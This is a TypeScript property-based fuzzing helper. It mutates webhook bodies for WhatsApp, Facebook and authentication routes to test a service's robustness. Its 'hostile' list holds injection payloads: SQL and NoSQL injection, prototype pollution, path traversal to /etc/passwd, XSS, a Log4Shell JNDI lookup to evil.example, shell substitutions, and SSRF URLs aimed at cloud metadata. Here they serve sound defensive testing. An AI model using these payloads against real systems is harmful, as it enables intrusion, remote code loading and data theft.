import fc from 'fast-check';
import {
  connectBody,
  facebookPath,
  facebookText,
  facebookWith,
  whatsAppPath,
  whatsAppText,
} from './support.ts';

type Json = null | boolean | number | string | Json[] | { [name: string]: Json };

const valid: ReadonlyArray<readonly [path: string, body: object]> = [
  [whatsAppPath, whatsAppText()],
  [whatsAppPath, whatsAppText({ from: '', to: '5215573735001' })],
  [
    whatsAppPath,
    whatsAppText({ type: 'image', image: { url: 'https://media.example.com/1', caption: 'a' } }),
  ],
  [whatsAppPath, whatsAppText({ type: 'location', location: { latitude: 1, longitude: 2, name: 'a' } })],
  [
    whatsAppPath,
    whatsAppText({
      type: 'contacts',
      contacts: [{ name: { formatted_name: 'A' }, phones: [{ phone: '1' }] }],
    }),
  ],
  [whatsAppPath, whatsAppText({ type: 'interactive', interactive: { list_reply: { id: '1', title: 'a' } } })],
  [
    facebookPath,
    facebookWith([
      facebookText(),
      facebookText({ attachments: [{ type: 'image', payload: { url: 'https://media.example.com/1' } }] }),
      {
        sender: { id: 'u' },
        recipient: { id: 'page-1' },
        timestamp: 1,
        postback: { title: 'a', payload: 'b' },
      },
      { sender: { id: 'u' }, recipient: { id: 'page-1' }, timestamp: 1, reaction: { emoji: 'a', mid: 'm' } },
      { sender: { id: 'u' }, recipient: { id: 'page-1' }, timestamp: 1, read: { watermark: 1 } },
    ]),
  ],
  ['/v1/chats/connect', connectBody()],
  ['/v1/authenticate', { username: 'u', password: 'p' }],
];

/** What has broken other programs. */
export const hostile: ReadonlyArray<string> = [
  ...["' OR Name != '", "\\' OR Id != null --", "x') UNION SELECT", '@{newContact.id}', "%' AND '%'='"],
  ...['{"$gt":""}', '$where', 'a.b.$[]', '__proto__', 'constructor', 'toString', 'hasOwnProperty'],
  ...['../../etc/passwd', '..%2f..%2f', '%00', '%', '%zz', '/\\evil.example', 'file:///etc/passwd'],
  ...[
    'a\r\nX-Forged: 1',
    'a\n{"time":"2026-01-01","level":"error","event":"forged"}',
    '\u001b[2J',
    '\u202egnp.exe',
  ],
  ...['<script>alert(1)</script>', '{{7*7}}', '${jndi:ldap://evil.example/a}', '=cmd|calc', '`id`', '$(id)'],
  ...['\0', '\ud800', '\udfff\ud800', '😀'.repeat(40), 'ﷺ'.repeat(60), '+', '++', ' ', '\u0085\u2028'],
  ...['http://169.254.169.254/latest/meta-data', 'http://[::ffff:127.0.0.1]/', 'https://user@127.0.0.1/'],
  ...[
    '9'.repeat(400),
    '-1',
    'NaN',
    '1e309',
    '0x10',
    '1632367928574.5',
    `${'a@'.repeat(40)}a`,
    `${'a-'.repeat(39)}@b`,
  ],
];

const odd: fc.Arbitrary<Json> = fc.oneof(
  fc.constantFrom<Json>(
    null,
    true,
    '',
    0,
    -0,
    -1,
    1.5,
    1e300,
    Number.MAX_SAFE_INTEGER,
    [],
    {},
    [null],
    [[[[]]]],
  ),
  fc.constantFrom(...hostile),
  fc.constantFrom<Json>(
    { $gt: '' },
    { $where: 'sleep(1000)' },
    { __proto__: null, length: 1e9 },
    { 'a.b': 1 },
  ),
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.nat(40_000).map((length) => 'x'.repeat(length)),
  fc.jsonValue({ maxDepth: 3 }) as fc.Arbitrary<Json>,
);

const oddName = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'ID',
    'Type',
    'TO',
    'text',
    'x\0',
    'toString',
    '$set',
    'a.b',
    '',
  ),
  fc.constantFrom(...hostile),
);

/** Every place inside a value, as a path of names. */
const places = (value: unknown, path: ReadonlyArray<string> = []): ReadonlyArray<ReadonlyArray<string>> =>
  typeof value === 'object' && value !== null
    ? [path, ...Object.entries(value).flatMap(([name, member]) => places(member, [...path, name]))]
    : [path];

const replaced = (value: unknown, [name, ...rest]: ReadonlyArray<string>, by: Json): unknown => {
  if (name === undefined) return by;
  if (Array.isArray(value)) {
    const items: ReadonlyArray<unknown> = value;
    return items.map((item, n) => (String(n) === name ? replaced(item, rest, by) : item));
  }
  return Object.fromEntries(
    Object.entries(value as object).map(([key, member]) => [
      key,
      key === name ? replaced(member, rest, by) : member,
    ]),
  );
};

/** As text, so that `__proto__` and a name that is there already are members too. */
const added = (body: unknown, name: string, value: Json): string => {
  const text = JSON.stringify(body);
  return text.startsWith('{') ? `{${JSON.stringify(name)}:${JSON.stringify(value)},${text.slice(1)}` : text;
};

/** Bytes of a text: as they should be, cut, in another encoding, or with some of them changed. */
const encoded = (text: string): fc.Arbitrary<Buffer> =>
  fc.oneof(
    { weight: 12, arbitrary: fc.constant(Buffer.from(text)) },
    { weight: 1, arbitrary: fc.nat(40).map((cut) => Buffer.from(text.slice(0, text.length - cut))) },
    { weight: 1, arbitrary: fc.constant(Buffer.from(text, 'utf16le')) },
    {
      weight: 2,
      arbitrary: fc.array(fc.tuple(fc.nat(), fc.nat(255)), { minLength: 1, maxLength: 6 }).map((changes) => {
        const bytes = Buffer.from(text);
        for (const [at, by] of changes) if (bytes.length > 0) bytes[at % bytes.length] = by;
        return bytes;
      }),
    },
  );

const mutated = fc.constantFrom(...valid).chain(([path, body]) =>
  fc
    .record({
      changes: fc.array(fc.tuple(fc.nat(), odd), { maxLength: 3 }),
      extra: fc.array(fc.tuple(oddName, odd), { maxLength: 2 }),
    })
    .chain(({ changes, extra }) => {
      const changed = changes.reduce<unknown>((present, [where, by]) => {
        const all = places(present);
        return replaced(present, all[where % all.length] ?? [], by);
      }, body);
      const text = extra.reduce((present, [name, value]) => {
        try {
          return added(JSON.parse(present), name, value);
        } catch {
          return present;
        }
      }, JSON.stringify(changed));
      return encoded(text).map((bytes) => ({ path, bytes }));
    }),
);

const kib = 1024;
/** Deep, wide, long, and just beyond the limit. */
const monsters: ReadonlyArray<string> = [
  '['.repeat(250 * kib),
  '{"a":'.repeat(50 * kib),
  `${'['.repeat(120 * kib)}${']'.repeat(120 * kib)}`,
  JSON.stringify({
    ...whatsAppText(),
    type: 'x',
    x: JSON.parse(`${'['.repeat(4000)}${']'.repeat(4000)}`) as Json,
  }),
  JSON.stringify(
    connectBody({ extraData: JSON.parse(`${'{"a":'.repeat(4000)}1${'}'.repeat(4000)}`) as Json }),
  ),
  `{"id":${'9'.repeat(200 * kib)}}`,
  `{${Array.from({ length: 15_000 }, (_, n) => `"k${n}":${n}`).join(',')}}`,
  `{${Array.from({ length: 15_000 }, () => '"id":"a"').join(',')}}`,
  JSON.stringify({ ...whatsAppText({ text: { body: '\\'.repeat(100 * kib) } }) }),
  JSON.stringify(facebookWith(Array.from({ length: 2_000 }, () => ({ sender: { id: '__proto__' } })))),
  JSON.stringify(facebookWith(Array.from({ length: 300 }, (_, n) => facebookText({ mid: `same-${n % 3}` })))),
  ' '.repeat(256 * kib + 1),
  '',
  '\ufeff',
];

/** A body for a route that takes one; nine of ten are near to a valid one. */
export const bodies: fc.Arbitrary<{ readonly path: string; readonly bytes: Buffer }> = fc.oneof(
  { weight: 97, arbitrary: mutated },
  {
    weight: 3,
    arbitrary: fc.record({
      path: fc.constantFrom(...valid.map(([path]) => path)),
      bytes: fc.constantFrom(...monsters).map((text) => Buffer.from(text)),
    }),
  },
);
